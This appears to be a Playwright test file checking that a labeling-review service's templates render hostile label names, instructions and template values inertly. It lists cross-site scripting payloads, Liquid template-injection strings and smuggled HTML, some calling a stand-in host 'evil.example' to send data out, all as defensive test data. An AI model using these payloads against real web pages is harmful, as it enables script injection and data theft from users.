"""Names, files and instructions that try to run, to break out, or to be Liquid: they are shown, and that is all.

Whatever runs in the page sets `document.documentElement.dataset.ran`, or asks the server for something under `leak/`.
"""

from typing import Any, Final

import pytest
from playwright.async_api import FrameLocator, expect

from services.review.templates.generate import image_custom, image_integrated
from tests.browser.desk import CROWD, Desk, page_of
from tests.browser.test_classifiers import DEFAULT_TEMPLATE, MODERATION
from tests.unit.desk.cases import STANDARD, custom_input, integrated_input, label

pytestmark = pytest.mark.asyncio(loop_scope="session")

RUN: Final = "document.documentElement.dataset.ran = 1"
HOSTILE: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f'"}}, {{ name: "Injected", x: "{RUN}',
    "'] ' autofocus onfocus=document.documentElement.dataset.ran=1 x='",
    "{{ task.input | to_json }}{% raw %}",
    "{% for i in (1..9) %}{{ i }}{% endfor %}",
    "--><b>bold</b><!--",
    "</crowd-form></form></div></textarea></style>",
    "back\\slash\\",
    'it\'s "both" & <more> &amp; &lt;b&gt;',
    "line\nbreak\ttab",
    "\u202eright to left \u2028 😀",
)


async def _nothing_ran(task: FrameLocator, desk: Desk) -> None:
    assert await task.locator("html").get_attribute("data-ran") is None
    assert not [key for key in desk.server.asked if "leak" in key]


def _shown(text: str) -> str:
    """As people read it, whatever space is between."""
    return " ".join(text.split())


async def _labels(task: FrameLocator, selector: str) -> list[str]:
    texts: list[str] = await task.locator(selector).evaluate_all("all => all.map(each => each.textContent)")
    return [_shown(text) for text in texts]


async def test_hostile_names_are_only_names_on_the_custom_page(desk: Desk) -> None:
    labels = [label(name, name, 90.0, flagged=True) for name in HOSTILE]
    told = " | ".join(HOSTILE)
    task = await desk.open(
        image_custom(STANDARD),
        custom_input(labels=labels, instructions=told, taskObject=f"s3://gavel-media/{HOSTILE[2]} it's {{{{x}}}}.jpg"),
    )
    await _nothing_ran(task, desk)
    assert await _labels(task, ".gavel-flagged .gavel-what") == [_shown(f"{name} in {name}") for name in HOSTILE]
    assert await _labels(task, ".gavel-instructions") == [_shown(told)]
    await expect(task.get_by_role("img")).to_have_js_property("naturalWidth", 800)
    await desk.focus()
    for key in ("1", "3", "d", "Enter"):
        await desk.page.keyboard.press(key)
    content = await desk.answer()
    assert [name for name, is_on in content["labels"].items() if is_on] == [HOSTILE[0], HOSTILE[2]]
    await _nothing_ran(task, desk)


@pytest.mark.parametrize(
    "template",
    [pytest.param(image_integrated(STANDARD), id="ours"), pytest.param(DEFAULT_TEMPLATE, id="amazon's default")],
)
async def test_hostile_names_are_only_names_in_a_list_of_categories(desk: Desk, template: str) -> None:
    labels = tuple(label(name, name, 90.0, flagged=True) for name in HOSTILE)
    task = await desk.open(template, integrated_input(labels, key=f"{HOSTILE[2]} it's.jpg"))
    await _nothing_ran(task, desk)
    shown = await _labels(task, "crowd-rekognition-detect-moderation-labels label .what")
    entities = 'it\'s "both" & <more> & <b>'  # A2I's names may be escaped for HTML: here they are unescaped once
    assert shown[: len(HOSTILE)] == [_shown(f"{_read(name, entities)} in {_read(name, entities)}") for name in HOSTILE]
    await expect(task.get_by_role("img").first).to_have_js_property("naturalWidth", 800)
    await task.get_by_role("checkbox").nth(2 + 4 if "gavel" in template else 4).check()
    await task.get_by_role("button", name="Submit").click()
    chosen = (await desk.answer())[MODERATION]["moderationLabels"]
    assert chosen == [{"name": HOSTILE[4], "parentName": HOSTILE[4]}]
    await _nothing_ran(task, desk)


def _read(name: str, entities: str) -> str:
    return entities if "&amp;" in name else name


async def test_hostile_values_are_only_values_wherever_a_template_puts_them(desk: Desk) -> None:
    template = page_of(
        """
        {% for name in task.input.names %}
        <p class="text">{{ name }}</p>
        <p class="double" title="{{ name }}"></p>
        <p class="single" title='{{ name }}'></p>
        <p class="bare" title={{ name }}></p>
        <p class="data" data-json='{{ name | to_json }}'></p>
        <crowd-checkbox name="box" value="{{ name }}">{{ name }}</crowd-checkbox>
        {% endfor %}
        <crowd-classifier name="c" header="{{ task.input.names | to_json }}"
          categories="{{ task.input.names | to_json | escape }}"></crowd-classifier>
        <!-- {{ task.input.names | to_json }} -->
        <style>p::before { content: "{{ task.input.names | to_json }}"; }</style>
        """,
        "window.names = {{ task.input.names | to_json }};",
    )
    names = list(HOSTILE)
    task = await desk.open(template, {"names": names})
    await _nothing_ran(task, desk)
    assert await task.locator("body").evaluate("() => window.names") == names
    read = {
        "text": "all => all.map(each => each.textContent)",
        "double": "all => all.map(each => each.title)",
        "single": "all => all.map(each => each.title)",
        "bare": "all => all.map(each => each.title)",
        "data": "all => all.map(each => JSON.parse(each.dataset.json))",
    }
    for place, how in read.items():
        found = await task.locator(f".{place}").evaluate_all(how)
        assert [_shown(each) for each in found] == [_shown(name) for name in names], place
    await expect(task.get_by_role("radio")).to_have_count(len(names))


SMUGGLED: Final = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<a href='javascript:{RUN}' id=link>link</a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src='/media/leak/frame'></iframe>",
    "<object data='/media/leak/object'></object>",
    "<link rel=stylesheet href='/media/leak/style'>",
    "<link rel=preload as=fetch href='/media/leak/preload'>",
    "<style>@import '/media/leak/import';</style>",
    "<base href='https://evil.example/'>",
    "<form action='/media/leak/form'><button id=send>Go</button></form>",
    "<script src='/static/crowd-html-elements.js?leak'></script>",
)


@pytest.mark.parametrize("smuggled", SMUGGLED)
async def test_what_skip_autoescape_lets_through_cannot_run_or_get_out(desk: Desk, smuggled: str) -> None:
    task = await desk.open(
        f"{CROWD}<crowd-form>{{{{ task.input.html | skip_autoescape }}}}<p>after</p></crowd-form>", {"html": smuggled}
    )
    for selector in ("#link", "#send"):
        if await task.locator(selector).count():
            await task.locator(selector).click()
    await expect(task.get_by_text("after")).to_be_visible()
    await _nothing_ran(task, desk)
    desk.problems.clear()


@pytest.mark.parametrize(
    "code",
    [
        "fetch('/media/leak/fetch')",
        "new Image().src = 'https://evil.example/leak'",
        "navigator.sendBeacon('/media/leak/beacon')",
        "new WebSocket('ws://127.0.0.1:1/leak')",
        "window.top.location = '/media/leak/top'",
        "document.cookie = 'a=b'",
        "localStorage.setItem('a', 'b')",
        "window.parent.document.title",
        "window.open('/media/leak/window')",
        "new Worker('data:,1')",
        "eval('1')",
    ],
)
async def test_a_template_that_means_harm_gets_nowhere(desk: Desk, code: str) -> None:
    attempt = f"window.said = 'ran'; (async () => {{ {code} }})().catch(error => {{ window.said = String(error); }});"
    task = await desk.open(page_of("<input name='a'>", attempt))
    await desk.page.wait_for_load_state("networkidle")
    await task.get_by_role("button", name="Submit").click()
    assert await desk.answer() == {"a": ""}
    await _nothing_ran(task, desk)
    assert await desk.page.context.cookies() == []
    assert len(desk.page.context.pages) == 1
    desk.problems.clear()


async def test_handlers_of_the_template_itself_work(desk: Desk) -> None:
    task = await desk.open(
        page_of(
            """
            <label><input type="checkbox" name="c" onchange="show('more', this)"> More?</label>
            <div id="more" style="display: none">
              <input name="m" aria-label="M" oninput='document.title = "a &gt; b"'>
            </div>
            """,
            "function show(id, box) { document.getElementById(id).style.display = box.checked ? 'block' : 'none'; }",
        )
    )
    await task.get_by_role("checkbox").check()
    await task.get_by_label("M", exact=True).fill("x")
    assert await task.locator("html").evaluate("() => document.title") == "a > b"
    await task.get_by_role("button", name="Submit").click()
    assert await desk.answer() == {"c": {"on": True}, "m": "x"}


async def test_the_page_opened_by_itself_has_no_origin_either(desk: Desk) -> None:
    address = desk.address(page_of("<input name='a'>"), {})
    await desk.page.goto(address.replace("/desk/", "/task/"))
    state: dict[str, Any] = await desk.page.evaluate(
        "() => { try { return { kept: localStorage.length }; } catch (error) { return { origin, name: error.name }; } }"
    )
    assert state == {"origin": "null", "name": "SecurityError"}
